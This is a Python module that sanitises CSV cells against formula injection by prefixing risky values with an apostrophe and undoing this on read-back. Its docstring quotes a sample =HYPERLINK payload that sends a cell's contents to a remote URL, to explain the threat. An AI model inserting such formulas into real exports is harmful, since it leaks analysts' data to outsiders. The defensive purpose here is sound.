"""Text that spreadsheet software would run as a formula (CSV/formula injection).

Attribute values, file names, code names and quotes come from files narratif does
not control; a value such as ``=HYPERLINK("http://…?d="&A2,"voir")`` becomes a live
formula when an analyst opens the table in Excel or LibreOffice. Spreadsheets read a
cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return as a formula
(OWASP, "CSV Injection"). In ``.xlsx`` workbooks every text cell is written as a
string cell (see :mod:`narratif.report.xlsx`); in CSV files, which carry no cell
types, such a value gets the leading apostrophe spreadsheets read as "this is text",
and :func:`from_csv` takes it off again when narratif reads the file back.
"""

from __future__ import annotations

import pandas as pd

#: First characters that make a spreadsheet evaluate a cell.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value: str) -> bool:
    """True when a spreadsheet would evaluate ``value`` typed or imported into a cell."""
    return value.startswith(FORMULA_START)


def to_csv(value: object) -> object:
    """``value`` made safe for a CSV cell: text a spreadsheet would evaluate gets a leading ``'``.

    Leading apostrophes already there count as part of the prefix, so :func:`from_csv`
    gives back exactly the original text.
    """
    if isinstance(value, str) and looks_like_formula(value.lstrip("'")):
        return "'" + value
    return value


def from_csv(value: object) -> object:
    """The text :func:`to_csv` was given (and what a spreadsheet shows for ``'=...``)."""
    if isinstance(value, str) and value.startswith("'") and looks_like_formula(value.lstrip("'")):
        return value[1:]
    return value


def csv_safe_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` with every text cell and column name passed through :func:`to_csv`."""
    out = df.copy()
    for col in out.columns:
        if out[col].dtype == object or pd.api.types.is_string_dtype(out[col].dtype):
            out[col] = out[col].map(to_csv)
    out.columns = [to_csv(str(c)) for c in out.columns]
    return out
